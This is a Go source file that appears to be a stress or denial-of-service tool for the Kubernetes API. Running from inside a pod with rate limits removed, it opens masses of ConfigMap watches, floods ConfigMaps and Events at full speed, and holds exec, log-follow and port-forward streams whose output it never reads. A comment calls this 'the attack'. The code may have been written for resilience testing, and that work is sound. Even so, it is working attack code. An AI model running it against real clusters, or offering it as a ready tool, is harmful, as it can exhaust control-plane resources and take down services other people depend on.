package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync/atomic"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	clientrest "k8s.io/client-go/rest"
	"k8s.io/client-go/tools/portforward"
	"k8s.io/client-go/tools/remotecommand"
	"k8s.io/client-go/transport/spdy"
)

// client returns a client of the pod's own service account, without any rate limit. Each client has
// connections of its own.
func client() (*kubernetes.Clientset, *clientrest.Config, string, error) {
	config, err := clientrest.InClusterConfig()
	if err != nil {
		return nil, nil, "", err
	}
	config.QPS = -1
	// client-go shares a transport between equal configurations; a Dial of its own makes a
	// configuration differ.
	config.Dial = newDialer()
	kube, err := kubernetes.NewForConfig(config)
	if err != nil {
		return nil, nil, "", err
	}
	name, err := namespace()
	return kube, config, name, err
}

// watches opens count watches on ConfigMaps and reads none of their events. 100 share a connection.
func watches(ctx context.Context, o options, t *tally) error {
	const each = 100
	workers((o.count+each-1)/each, func(int) {
		kube, _, namespace, err := client()
		if err != nil {
			t.fail(err)
			return
		}
		workers(each, func(int) {
			for ctx.Err() == nil {
				body, err := kube.CoreV1().RESTClient().Get().Namespace(namespace).Resource("configmaps").
					VersionedParams(&metav1.ListOptions{Watch: true}, scheme.ParameterCodec).Stream(ctx)
				if err == nil {
					t.add("watches")
					<-ctx.Done()
					_ = body.Close()
				} else if ctx.Err() == nil {
					t.fail(err)
				}
				if !rest(ctx, retryPause) {
					return
				}
			}
		})
	})
	return nil
}

// writes creates ConfigMaps and Events at full speed.
func writes(ctx context.Context, o options, t *tally) error {
	var number atomic.Int64
	filler := strings.Repeat("x", 10<<10)
	kube, _, namespace, err := client()
	if err != nil {
		return err
	}
	workers(o.count, func(worker int) {
		for ctx.Err() == nil {
			meta := metav1.ObjectMeta{Name: fmt.Sprintf("siege-%d", number.Add(1))}
			if worker%2 == 0 {
				_, err = kube.CoreV1().ConfigMaps(namespace).Create(ctx,
					&corev1.ConfigMap{ObjectMeta: meta, Data: map[string]string{"x": filler}}, metav1.CreateOptions{})
			} else {
				_, err = kube.CoreV1().Events(namespace).Create(ctx, &corev1.Event{
					ObjectMeta: meta, Reason: "Siege", Message: "noise", FirstTimestamp: metav1.Now(), LastTimestamp: metav1.Now(),
					InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: namespace, Name: "nobody"},
				}, metav1.CreateOptions{})
			}
			switch {
			case err == nil:
				t.add("objects")
			case ctx.Err() == nil:
				t.fail(err)
				rest(ctx, retryPause)
			}
		}
	})
	return nil
}

// unread is a writer that accepts one write and then blocks until ctx ends.
type unread struct {
	ctx context.Context
	t   *tally
}

func (u unread) Write([]byte) (int, error) {
	u.t.add("streams with output")
	<-u.ctx.Done()
	return 0, io.ErrClosedPipe
}

// unreadExecs runs commands in a pod that print without end, and reads none of the output.
func unreadExecs(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) {
		kube, config, namespace, err := client()
		for err == nil && ctx.Err() == nil {
			request := kube.CoreV1().RESTClient().Post().Namespace(namespace).Resource("pods").Name(o.host).SubResource("exec").
				VersionedParams(&corev1.PodExecOptions{Command: []string{"yes"}, Stdout: true}, scheme.ParameterCodec)
			var executor remotecommand.Executor
			if executor, err = remotecommand.NewWebSocketExecutor(config, http.MethodGet, request.URL().String()); err != nil {
				break
			}
			// A refusal is expected here again and again; that is the attack.
			if streamErr := executor.StreamWithContext(ctx, remotecommand.StreamOptions{Stdout: unread{ctx, t}}); ctx.Err() == nil {
				t.fail(streamErr)
			}
			rest(ctx, retryPause)
		}
		if err != nil {
			t.fail(err)
		}
	})
	return nil
}

// unreadLogs follows the log of a pod that prints without end, and reads none of it.
func unreadLogs(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) {
		kube, _, namespace, err := client()
		if err != nil {
			t.fail(err)
			return
		}
		for ctx.Err() == nil {
			body, err := kube.CoreV1().Pods(namespace).GetLogs(o.host, &corev1.PodLogOptions{Follow: true}).Stream(ctx)
			if err == nil {
				t.add("followed")
				<-ctx.Done()
				_ = body.Close()
			} else if ctx.Err() == nil {
				t.fail(err)
			}
			rest(ctx, retryPause)
		}
	})
	return nil
}

// unreadForwards forwards ports of a pod, requests a large page through them and reads none of it.
func unreadForwards(ctx context.Context, o options, t *tally) error {
	workers(o.count, func(int) {
		for ctx.Err() == nil {
			if err := unreadForward(ctx, o, t); err != nil && ctx.Err() == nil {
				t.fail(err)
			}
			rest(ctx, retryPause)
		}
	})
	return nil
}

func unreadForward(ctx context.Context, o options, t *tally) error {
	kube, config, namespace, err := client()
	if err != nil {
		return err
	}
	url := kube.CoreV1().RESTClient().Post().Namespace(namespace).Resource("pods").Name(o.host).SubResource("portforward").URL()
	tripper, upgrader, err := spdy.RoundTripperFor(config)
	if err != nil {
		return err
	}
	dialer := spdy.NewDialer(upgrader, &http.Client{Transport: tripper, Timeout: time.Minute}, http.MethodPost, url)
	connection, _, err := dialer.Dial(portforward.PortForwardProtocolV1Name)
	if err != nil {
		return err
	}
	defer connection.Close()
	header := http.Header{}
	header.Set(corev1.PortHeader, "8080")
	header.Set(corev1.PortForwardRequestIDHeader, "1")
	header.Set(corev1.StreamType, corev1.StreamTypeError)
	if _, err := connection.CreateStream(header); err != nil {
		return err
	}
	header.Set(corev1.StreamType, corev1.StreamTypeData)
	stream, err := connection.CreateStream(header)
	if err != nil {
		return err
	}
	if _, err := io.WriteString(stream, "GET /large HTTP/1.1\r\nHost: hall\r\n\r\n"); err != nil {
		return err
	}
	t.add("forwards")
	select {
	case <-ctx.Done():
	case <-connection.CloseChan():
	}
	return nil
}

// newDialer returns a dialer that no other client shares.
func newDialer() func(context.Context, string, string) (net.Conn, error) {
	d := &net.Dialer{Timeout: dialTimeout}
	return d.DialContext
}

func namespace() (string, error) {
	name, err := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/namespace")
	return string(name), err
}
